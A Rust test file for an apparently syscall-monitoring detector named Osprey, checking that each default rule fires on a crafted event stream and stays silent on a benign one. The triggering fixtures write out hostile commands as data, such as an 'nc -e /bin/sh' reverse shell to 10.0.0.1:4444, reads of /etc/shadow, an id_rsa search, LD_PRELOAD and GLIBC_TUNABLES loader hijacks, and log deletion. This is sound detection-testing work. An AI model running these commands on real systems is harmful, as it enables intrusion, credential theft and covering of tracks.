//! Osprey's default rules over hand-made event streams: each rule fires on
//! the behaviour it describes and stays silent on a benign neighbour.

use osprey::commands::engine_setup::{build_syscall_pipeline, RuleOptions};
use osprey::event::Event;
use serde_json::{json, Value};

/// A stream of events from one process tree, built step by step.
struct Stream {
    events: Vec<Value>,
    ts: u64,
}

const SHELL_PID: u64 = 100;

impl Stream {
    /// Starts with an interactive bash (pid 100, parent sshd 1).
    fn new(uid: u64) -> Self {
        let mut s = Stream { events: Vec::new(), ts: 1_700_000_000_000_000_000 };
        s.push(
            SHELL_PID,
            1,
            "bash",
            uid,
            "execve",
            0,
            json!({"exe": "-bash", "args": [], "cwd": "/root", "trusted_exepath": "/usr/bin/bash"}),
        );
        s
    }

    #[allow(clippy::too_many_arguments)]
    fn push(&mut self, pid: u64, ppid: u64, comm: &str, uid: u64, ty: &str, res: i64, args: Value) {
        self.ts += 1000;
        self.events.push(json!({
            "evt.rawtime": self.ts, "evt.type": ty, "evt.dir": "<", "evt.rawres": res,
            "proc.pid": pid, "thread.tid": pid, "proc.ppid": ppid, "proc.name": comm,
            "user.uid": uid, "group.gid": 0, "user.loginuid": 1000, "evt.args": args
        }));
    }

    /// The shell runs `exe args...` as a child (pid 200).
    fn spawn(mut self, comm: &str, exepath: &str, args: &[&str]) -> Self {
        let uid = self.uid();
        self.push(
            200,
            SHELL_PID,
            comm,
            uid,
            "execve",
            0,
            json!({"exe": comm, "args": args, "cwd": "/root", "trusted_exepath": exepath}),
        );
        self
    }

    /// The current process (the last spawned, else the shell) makes a syscall.
    fn call(mut self, ty: &str, res: i64, args: Value) -> Self {
        let last = self.events.last().expect("stream has a process").clone();
        let (pid, ppid, comm) = (
            last["proc.pid"].as_u64().unwrap(),
            last["proc.ppid"].as_u64().unwrap(),
            last["proc.name"].as_str().unwrap().to_string(),
        );
        let uid = self.uid();
        self.push(pid, ppid, &comm, uid, ty, res, args);
        self
    }

    /// The last syscall was made through `table` by a program of that width or not.
    fn through(mut self, table: &str, program_is_32bit: bool) -> Self {
        let last = self.events.last_mut().expect("stream has an event");
        last["syscall.table"] = json!(table);
        last["syscall.program_is_32bit"] = json!(program_is_32bit);
        self
    }

    fn uid(&self) -> u64 {
        self.events.first().map_or(0, |e| e["user.uid"].as_u64().unwrap())
    }

    /// Names of the rules that fired.
    fn alerts(&self) -> Vec<String> {
        let mut p = build_syscall_pipeline(&RuleOptions { all_matches: true, ..Default::default() }, None)
            .expect("default rules load");
        let mut fired = Vec::new();
        for v in &self.events {
            let ev = Event::from_json(v).expect("valid event");
            p.process(&ev, |a| fired.push(a.rule));
        }
        fired
    }
}

fn open(path: &str, flags: &str, fd: i64) -> (&'static str, i64, Value) {
    ("openat", fd, json!({"fd": fd, "dirfd": -100, "name": path, "flags": flags, "mode": "0"}))
}

fn check(rule: &str, fires: Stream, silent: Stream) {
    let a = fires.alerts();
    assert!(a.iter().any(|r| r == rule), "{rule} did not fire; alerts: {a:?}");
    let b = silent.alerts();
    assert!(!b.iter().any(|r| r == rule), "{rule} fired on the benign stream; alerts: {b:?}");
}

fn with_open(s: Stream, (ty, res, args): (&str, i64, Value)) -> Stream {
    s.call(ty, res, args)
}

#[test]
fn shadow_file_read() {
    check(
        "Osprey Shadow File Read",
        with_open(Stream::new(0).spawn("cat", "/usr/bin/cat", &["/etc/shadow"]), open("/etc/shadow", "O_RDONLY", 3)),
        with_open(Stream::new(0).spawn("sshd", "/usr/sbin/sshd", &[]), open("/etc/shadow", "O_RDONLY", 3)),
    );
}

#[test]
fn private_key_search() {
    check(
        "Osprey Private Key Search",
        Stream::new(1000).spawn("find", "/usr/bin/find", &["/", "-name", "id_rsa"]),
        Stream::new(1000).spawn("find", "/usr/bin/find", &["/", "-name", "*.log"]),
    );
}

#[test]
fn execution_from_scratch_directory() {
    check(
        "Osprey Execution From Scratch Directory",
        Stream::new(1000).spawn("x", "/tmp/x", &[]),
        Stream::new(1000).spawn("ls", "/usr/bin/ls", &[]),
    );
}

#[test]
fn fileless_execution() {
    check(
        "Osprey Fileless Execution",
        Stream::new(0).spawn("3", "/memfd:payload (deleted)", &[]),
        Stream::new(0).spawn("ls", "/usr/bin/ls", &[]),
    );
}

#[test]
fn loader_hijack_via_environment() {
    let with_env = |env: &[&str]| {
        let mut s = Stream::new(1000);
        s.push(
            200,
            SHELL_PID,
            "su",
            1000,
            "execve",
            0,
            json!({"exe": "su", "args": [], "cwd": "/tmp", "trusted_exepath": "/usr/bin/su", "env": env}),
        );
        s
    };
    check(
        "Osprey Loader Hijack Via Environment",
        with_env(&["PATH=/usr/bin", "GLIBC_TUNABLES=glibc.tunables=glibc.malloc.mxfast=AAAA"]),
        with_env(&["PATH=/usr/bin", "LANG=C.UTF-8"]),
    );
    check(
        "Osprey Loader Hijack Via Environment",
        with_env(&["LD_PRELOAD=/tmp/x.so"]),
        Stream::new(1000).spawn("su", "/usr/bin/su", &[]),
    );
}

#[test]
fn netcat_remote_shell() {
    check(
        "Osprey Netcat Remote Shell",
        Stream::new(0).spawn("nc", "/usr/bin/nc", &["-e", "/bin/sh", "10.0.0.1", "4444"]),
        Stream::new(0).spawn("nc", "/usr/bin/nc", &["-z", "10.0.0.1", "22"]),
    );
}

#[test]
fn shell_stdio_redirected_to_network() {
    let fires = Stream::new(1000)
        .call("socket", 3, json!({"fd": 3, "domain": "AF_INET", "type": 1, "proto": 0}))
        .call("connect", 0, json!({"res": 0, "fd": 3, "addr": "10.0.0.1:4444"}))
        .call("dup2", 0, json!({"res": 0, "oldfd": 3, "newfd": 0}));
    let silent = Stream::new(1000).call("pipe", 0, json!({"res": 0, "fd1": 3, "fd2": 4})).call(
        "dup2",
        1,
        json!({"res": 1, "oldfd": 4, "newfd": 1}),
    );
    check("Osprey Shell Stdio Redirected To Network", fires, silent);
}

#[test]
fn reconnaissance_tool() {
    check(
        "Osprey Network Reconnaissance Tool",
        Stream::new(0).spawn("nmap", "/usr/bin/nmap", &["-sS", "10.0.0.0/24"]),
        Stream::new(0).spawn("ping", "/usr/bin/ping", &["10.0.0.1"]),
    );
}

#[test]
fn write_below_binary_directory() {
    check(
        "Osprey Write Below Binary Directory",
        with_open(
            Stream::new(0).spawn("cp", "/usr/bin/cp", &["x", "/usr/bin/ls"]),
            open("/usr/bin/ls", "O_WRONLY|O_CREAT|O_TRUNC", 4),
        ),
        with_open(
            Stream::new(0).spawn("dpkg", "/usr/bin/dpkg", &["-i", "x.deb"]),
            open("/usr/bin/ls", "O_WRONLY|O_CREAT|O_TRUNC", 4),
        ),
    );
}

#[test]
fn account_database_modified() {
    check(
        "Osprey Account Database Modified",
        with_open(
            Stream::new(0).spawn("python3", "/usr/bin/python3", &["-c", "..."]),
            open("/etc/passwd", "O_WRONLY|O_APPEND", 3),
        ),
        with_open(
            Stream::new(0).spawn("useradd", "/usr/sbin/useradd", &["bob"]),
            open("/etc/passwd", "O_WRONLY|O_APPEND", 3),
        ),
    );
}

#[test]
fn setuid_bit_set() {
    check(
        "Osprey Setuid Or Setgid Bit Set",
        Stream::new(0).spawn("chmod", "/usr/bin/chmod", &["4755", "x"]).call(
            "fchmodat",
            0,
            json!({"res": 0, "dirfd": -100, "filename": "x", "mode": "04755"}),
        ),
        Stream::new(0).spawn("chmod", "/usr/bin/chmod", &["755", "x"]).call(
            "fchmodat",
            0,
            json!({"res": 0, "dirfd": -100, "filename": "x", "mode": "0755"}),
        ),
    );
}

#[test]
fn log_files_cleared() {
    check(
        "Osprey Log Files Cleared",
        Stream::new(0).spawn("rm", "/usr/bin/rm", &["/var/log/auth.log"]).call(
            "unlinkat",
            0,
            json!({"res": 0, "dirfd": -100, "name": "/var/log/auth.log", "flags": "0x0"}),
        ),
        Stream::new(0).spawn("rm", "/usr/bin/rm", &["/tmp/x.log"]).call(
            "unlinkat",
            0,
            json!({"res": 0, "dirfd": -100, "name": "/tmp/x.log", "flags": "0x0"}),
        ),
    );
}

#[test]
fn shell_history_deleted() {
    check(
        "Osprey Shell History Deleted",
        Stream::new(1000).spawn("rm", "/usr/bin/rm", &[".bash_history"]).call(
            "unlinkat",
            0,
            json!({"res": 0, "dirfd": -100, "name": "/root/.bash_history", "flags": "0x0"}),
        ),
        Stream::new(1000).spawn("rm", "/usr/bin/rm", &["notes"]).call(
            "unlinkat",
            0,
            json!({"res": 0, "dirfd": -100, "name": "/root/notes", "flags": "0x0"}),
        ),
    );
}

#[test]
fn link_to_sensitive_file() {
    check(
        "Osprey Link To Sensitive File",
        Stream::new(1000).spawn("ln", "/usr/bin/ln", &["-s", "/etc/shadow", "s"]).call(
            "symlinkat",
            0,
            json!({"res": 0, "target": "/etc/shadow", "linkdirfd": -100, "linkpath": "s"}),
        ),
        Stream::new(1000).spawn("ln", "/usr/bin/ln", &["-s", "/etc/hosts", "h"]).call(
            "symlinkat",
            0,
            json!({"res": 0, "target": "/etc/hosts", "linkdirfd": -100, "linkpath": "h"}),
        ),
    );
}

#[test]
fn kernel_module_loaded() {
    check(
        "Osprey Kernel Module Loaded",
        Stream::new(0).spawn("insmod", "/usr/sbin/insmod", &["rk.ko"]).call(
            "finit_module",
            0,
            json!({"res": 0, "fd": 3, "flags": 0}),
        ),
        Stream::new(0).spawn("modprobe", "/usr/sbin/modprobe", &["loop"]).call(
            "finit_module",
            0,
            json!({"res": 0, "fd": 3, "flags": 0}),
        ),
    );
}

#[test]
fn ptrace_attach() {
    check(
        "Osprey Ptrace Attach",
        Stream::new(0).spawn("python3", "/usr/bin/python3", &[]).call(
            "ptrace",
            0,
            json!({"res": 0, "request": 16, "pid": 1}),
        ),
        Stream::new(0).spawn("python3", "/usr/bin/python3", &[]).call(
            "ptrace",
            0,
            json!({"res": 0, "request": 0, "pid": 0}),
        ),
    );
}

#[test]
fn user_namespace_created() {
    check(
        "Osprey User Namespace Created",
        Stream::new(1000).spawn("unshare", "/usr/bin/unshare", &["-U"]).call(
            "unshare",
            0,
            json!({"res": 0, "flags": "CLONE_NEWUSER"}),
        ),
        Stream::new(1000).spawn("unshare", "/usr/bin/unshare", &["-m"]).call(
            "unshare",
            0,
            json!({"res": 0, "flags": "CLONE_NEWNS"}),
        ),
    );
}

#[test]
fn bpf_program_loaded() {
    check(
        "Osprey BPF Program Loaded",
        Stream::new(0).spawn("loader", "/opt/loader", &[]).call("bpf", 5, json!({"res": 5, "cmd": 5})),
        Stream::new(0).spawn("bpftool", "/usr/sbin/bpftool", &[]).call("bpf", 0, json!({"res": 0, "cmd": 1})),
    );
}

#[test]
fn raw_packet_socket() {
    check(
        "Osprey Raw Packet Socket",
        Stream::new(0).spawn("sniff", "/opt/sniff", &[]).call(
            "socket",
            3,
            json!({"fd": 3, "domain": "AF_PACKET", "type": "SOCK_RAW", "proto": 768}),
        ),
        Stream::new(0).spawn("curl", "/usr/bin/curl", &[]).call(
            "socket",
            3,
            json!({"fd": 3, "domain": "AF_INET", "type": 1, "proto": 6}),
        ),
    );
}

#[test]
fn syscall_of_32_bits_from_a_64_bit_program() {
    let socket = |program_is_32bit| {
        Stream::new(1000)
            .spawn("implant", "/opt/implant", &[])
            .call("socket", 3, json!({"fd": 3, "domain": "AF_INET", "type": 1, "proto": 6}))
            .through("i386", program_is_32bit)
    };
    check("Osprey 32-bit Syscall From A 64-bit Program", socket(false), socket(true));
    // A successful exec's exit describes the new program, not the old one's syscall.
    check("Osprey 32-bit Syscall From A 64-bit Program", socket(false), exec_through("i386", false));
}

#[test]
fn syscall_of_64_bits_from_a_32_bit_program() {
    let execve = |program_is_32bit| {
        Stream::new(1000)
            .spawn("dropper", "/opt/dropper", &[])
            .call("execve", -2, json!({"exe": "/tmp/missing", "args": []}))
            .through("x86_64", program_is_32bit)
    };
    check("Osprey 64-bit Syscall From A 32-bit Program", execve(true), execve(false));
    // As above.
    check("Osprey 64-bit Syscall From A 32-bit Program", execve(true), exec_through("x86_64", true));
}

/// A successful exec of `/opt/tool`, its exit through `table` by a program
/// of that width or not.
fn exec_through(table: &str, program_is_32bit: bool) -> Stream {
    Stream::new(1000).spawn("tool", "/opt/tool", &[]).through(table, program_is_32bit)
}

#[test]
fn cloud_metadata_access() {
    let connect = |addr: &str| {
        Stream::new(1000)
            .spawn("curl", "/usr/bin/curl", &[])
            .call("socket", 3, json!({"fd": 3, "domain": "AF_INET", "type": 1, "proto": 6}))
            .call("connect", 0, json!({"res": 0, "fd": 3, "addr": addr}))
    };
    check("Osprey Cloud Metadata Access", connect("169.254.169.254:80"), connect("10.1.1.1:80"));
}

#[test]
fn mining_pool_connection() {
    let connect = |addr: &str| {
        Stream::new(1000)
            .spawn("xmrig", "/opt/xmrig", &[])
            .call("socket", 3, json!({"fd": 3, "domain": "AF_INET", "type": 1, "proto": 6}))
            .call("connect", 0, json!({"res": 0, "fd": 3, "addr": addr}))
    };
    check("Osprey Mining Pool Connection", connect("203.0.113.5:3333"), connect("203.0.113.5:443"));
}

/// Container-only rules stay silent on the host.
#[test]
fn container_rules_are_silent_on_the_host() {
    let s = Stream::new(0).spawn("bash", "/usr/bin/bash", &[]).call(
        "setns",
        0,
        json!({"res": 0, "fd": 3, "nstype": "CLONE_NEWNS"}),
    );
    let a = s.alerts();
    assert!(!a.iter().any(|r| r.contains("Container")), "{a:?}");
}

/// Ordinary permission changes (group bits, sticky directories) are not setuid.
#[test]
fn setuid_rule_ignores_plain_and_sticky_modes() {
    for mode in ["0660", "0600", "0644", "01777", "0755"] {
        let s = Stream::new(0).spawn("chmod", "/usr/bin/chmod", &[mode, "x"]).call(
            "fchmodat",
            0,
            json!({"res": 0, "dirfd": -100, "filename": "x", "mode": mode}),
        );
        assert!(!s.alerts().iter().any(|r| r == "Osprey Setuid Or Setgid Bit Set"), "mode {mode}");
    }
}

/// runc re-executes itself from a memfd on purpose; that is not fileless malware.
#[test]
fn runc_self_clone_is_not_fileless_execution() {
    let s = Stream::new(0).spawn("runc:[1:CHILD]", "/memfd:runc_cloned:/proc/self/exe (deleted)", &["init"]);
    assert!(!s.alerts().iter().any(|r| r == "Osprey Fileless Execution"));
}
